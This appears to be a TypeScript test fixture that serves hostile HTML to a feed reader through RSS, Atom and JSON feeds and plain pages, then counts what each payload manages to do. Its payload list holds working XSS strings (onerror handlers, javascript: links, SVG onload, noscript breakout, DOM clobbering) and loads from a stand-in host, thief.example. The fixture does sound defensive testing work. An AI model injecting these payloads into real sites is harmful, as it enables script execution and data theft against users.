/** Serves markup that means harm, in every place where a feed has text or an address, and bare on plain pages. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { escapeMarkup as escape } from '../newsroom/escape-markup.ts';
import { startFeedServer, type FeedServer } from '../support/feed-server.ts';
import { watchForHarm, type Watched } from './hostile-watch.ts';

const corpus = join(import.meta.dirname, '../../../shared/corpus/hostile-html.json');
export const isCorpusHere = existsSync(corpus);

/** What is tried everywhere, with the corpus or without it. */
const own = [
  '<script>alert(1)</script>',
  '<img src="missing.png" srcset="missing-too.png 1x" onerror="alert(1)">',
  '<a href="java&#10;script:alert(1)">Read on</a><a href="&#1;javascript:alert(1)">here</a>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<form action="https://thief.example/form"><input name="innerHTML" autofocus onfocus="alert(1)"><button>Send</button></form>',
  '<style>body { background: url(https://thief.example/style) }</style><p class="pill" style="position: fixed; inset: 0">Over all</p>',
  '<link rel="stylesheet" href="https://thief.example/sheet"><script src="https://thief.example/script"></script>',
  '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text y="9">Drawn</text></a></svg>',
  '<noscript><p title="</noscript><img src=y onerror=alert(1)>"></noscript>',
  '<base href="https://thief.example/"><meta http-equiv="refresh" content="0;url=https://thief.example/moved">',
  '<object data="https://thief.example/object"></object><object data="data:text/html,<script>parent.alert(1)</script>"></object><embed src="https://thief.example/embedded">',
  '<img name="createElement" src="a.png"><form><p>Named</p><img name="childNodes" src="b.png"></form>',
  '<details open ontoggle="alert(1)"><summary id="wireside" name="harm">More</summary></details>',
  '<a href="https://thief.example/story" ping="https://thief.example/ping" target="_self" onclick="alert(1)">Story</a>',
  '<video autoplay poster="https://thief.example/poster" src="https://thief.example/film" onerror="alert(1)"></video>',
];

export const payloads: readonly string[] = [
  ...own,
  ...(isCorpusHere ? (JSON.parse(readFileSync(corpus, 'utf8')) as { html: string }[]).map(({ html }) => html) : []),
];

export interface HostileNews {
  readonly server: FeedServer;
  /** For each payload a feed with one story, the formats in turn, and last a feed whose stories have hostile pages. */
  readonly addresses: readonly string[];
  /** The articles of the last one. */
  readonly pages: readonly string[];
  /** Sets every payload free, each in a frame of its own. */
  readonly plainPage: string;
  /** What each of them did there: nothing of its frame is left to be asked where it says `left`. */
  readonly harmDone: Promise<readonly (readonly string[])[]>;
}

export async function startHostileNews(): Promise<HostileNews> {
  const server = await startFeedServer();
  const { origin } = server;
  // Whatever would have left the machine comes to this server, and is counted. Names of namespaces are not addresses.
  const here = payloads.map((html) =>
    html.replace(/(?:https?:)?\/\/(?!www\.w3\.org)((?:[\w-]+\.)+[a-z]+)/gi, `${origin}/away/$1`),
  );
  // An article takes ten times as long as a story that is whole in its feed, so payloads share them.
  const pageCount = Math.ceil(here.length / 10);
  const pages = Array.from({ length: pageCount }, (_, page) => `${origin}/pages/${page}`);
  server.set('/pages.rss', { body: rssOf('Pages', origin, pages.map(teaserOf).join('')) });
  pages.forEach((_, page) => {
    const all = here.filter((_, index) => index % pageCount === page);
    server.set(`/pages/${page}`, { body: pageOf(all, page) });
  });
  here.forEach((html, index) => {
    server.set(feedPath(index), { body: formatOf(index).write(html, index) });
    server.set(`/plain/${index}`, { body: `${plainHead}<script>(${watchForHarm})()</script>${html}` });
  });
  server.set('/plain', {
    headers: { 'set-cookie': 'reader=known' },
    body: `${plainHead}<script>(${setFree})(${here.length})</script>`,
  });
  const harmDone = new Promise<string[][]>((resolve) => {
    server.set('/harm', async (request, response) => {
      const said = await Array.fromAsync(request as AsyncIterable<Uint8Array>);
      response.end();
      resolve(JSON.parse(Buffer.concat(said).toString()));
    });
  });
  return {
    server,
    addresses: [...here.map((_, index) => origin + feedPath(index)), `${origin}/pages.rss`],
    pages,
    plainPage: `${origin}/plain`,
    harmDone,
  };
}

const plainHead = '<!doctype html><meta charset="utf-8">';

/** Runs in a plain page. */
async function setFree(count: number): Promise<void> {
  const wait = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));
  const free = async (index: number): Promise<string[]> => {
    const frame = document.createElement('iframe');
    // It may do what it likes but show dialogs, open windows and take the page around it away.
    frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-forms');
    frame.src = `/plain/${index}`;
    const loaded = new Promise((resolve) => (frame.onload = resolve));
    document.body.append(frame);
    await Promise.race([loaded, wait(2_000)]);
    // Without a document to be looked at once the frame has gone to another site.
    const read = (): Partial<Watched> => (frame.contentDocument ? (frame.contentWindow as Watched | null) : null) ?? {};
    const { harm = [], provoke } = read();
    if (frame.contentDocument) provoke?.(frame.contentDocument);
    await wait(300);
    const done = read().harm === harm ? [...harm] : [...harm, 'left'];
    frame.remove();
    return done;
  };
  while (!document.body) await wait(1);
  const done: string[][] = [];
  while (done.length < count) {
    const batch = Array.from({ length: Math.min(40, count - done.length) }, (_, index) => free(done.length + index));
    done.push(...(await Promise.all(batch)));
  }
  await fetch('/harm', { method: 'POST', body: JSON.stringify(done) });
}

/** The part of a payload that is an address of its own kind, or all of it. */
export const addressOf = (html: string): string =>
  /(?:javascript|data|vbscript|mhtml):[^"'>]*/i.exec(html)?.[0] ?? html;

const dateOf = (index: number): Date => new Date(Date.UTC(2025, 5, 1) - index * 60_000);
const sourceOf = (html: string, index: number): string => `Source ${index} ${html}`;
const titleOf = (html: string, index: number): string => `Payload ${index} ${html}`;
const bodyOf = (html: string): string => `<p>${words} ${words}</p>${html}`;

const formats = [
  { kind: 'rss', write: (html: string, index: number) => rssOf(sourceOf(html, index), html, rssItem(html, index)) },
  { kind: 'atom', write: atomOf },
  { kind: 'json', write: jsonOf },
] as const;
const formatOf = (index: number) => formats[(index % formats.length) as 0 | 1 | 2];
const feedPath = (index: number): string => `/feeds/${index}.${formatOf(index).kind}`;

const rssOf = (title: string, link: string, items: string): string =>
  `<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>${escape(title)}</title><link>${escape(link)}</link>
<description>${escape(title)}</description><image><url>${escape(addressOf(link))}</url><link>${escape(link)}</link></image>
${items}</channel></rss>`;

const rssItem = (html: string, index: number): string =>
  `<item><title>${escape(titleOf(html, index))}</title><dc:creator>${escape(html)}</dc:creator>
<description>${escape(html)}</description><content:encoded>${section(bodyOf(html))}</content:encoded>
<guid isPermaLink="false">${index}</guid><link>${escape(html)}</link>
<enclosure url="${escape(addressOf(html))}" type="image/png" length="1"/><pubDate>${dateOf(index).toUTCString()}</pubDate></item>`;

const section = (text: string): string => `<![CDATA[${text.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;

function atomOf(html: string, index: number): string {
  const address = escape(addressOf(html));
  const markup = (name: string, text: string) => `<${name} type="html">${escape(text)}</${name}>`;
  return `<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">${markup('title', sourceOf(html, index))}
${markup('subtitle', html)}<id>urn:hostile:${index}</id><link href="${address}"/><icon>${address}</icon><logo>${address}</logo>
<entry><id>urn:hostile:story:${index}</id>${markup('title', titleOf(html, index))}${markup('summary', html)}
${markup('content', bodyOf(html))}<author><name>${escape(html)}</name><uri>${address}</uri></author><link href="${address}"/>
<link rel="enclosure" type="image/png" href="${escape(html)}"/><updated>${dateOf(index).toISOString()}</updated></entry></feed>`;
}

function jsonOf(html: string, index: number): string {
  const address = addressOf(html);
  return JSON.stringify({
    version: 'https://jsonfeed.org/version/1.1',
    title: sourceOf(html, index),
    home_page_url: html,
    icon: address,
    items: [
      {
        id: String(index),
        title: titleOf(html, index),
        authors: [{ name: html, url: address, avatar: address }],
        summary: html,
        content_html: bodyOf(html),
        url: address,
        external_url: html,
        image: html,
        attachments: [{ url: address, mime_type: 'image/png' }],
        date_published: dateOf(index).toISOString(),
      },
    ],
  });
}

const teaserOf = (address: string, page: number): string =>
  `<item><title>Page ${page}</title><guid isPermaLink="false">${page}</guid><link>${address}</link>
<description>The beginning of page ${page}…</description><pubDate>${dateOf(page).toUTCString()}</pubDate></item>`;

/** The words come first, and whatever a payload leaves open is closed, for much of it swallows what follows. */
const pageOf = (all: readonly string[], page: number): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Page ${page}</title>
<meta name="author" content="${escape(all.join(' '))}"><meta property="og:image" content="${escape(addressOf(all[0] ?? ''))}">
</head><body><article><h1>Page ${page}</h1>${`<p>${words}</p>`.repeat(4)}
${all.map((html) => `<div>${html}<!-- -->"'>${ends}</div>`).join(`<p>${words}</p>`)}</article></body></html>`;

const ends = 'script style textarea title xmp noscript noembed template select iframe svg math'.replace(
  /\w+ ?/g,
  '</$&>',
);

const words =
  'The harbour office read the gauge at noon and wrote the figure into the book, as it has done on every day since the ' +
  'winter of the long ice. The pilots read it too, and theirs was the same figure, which nobody had expected of them.';
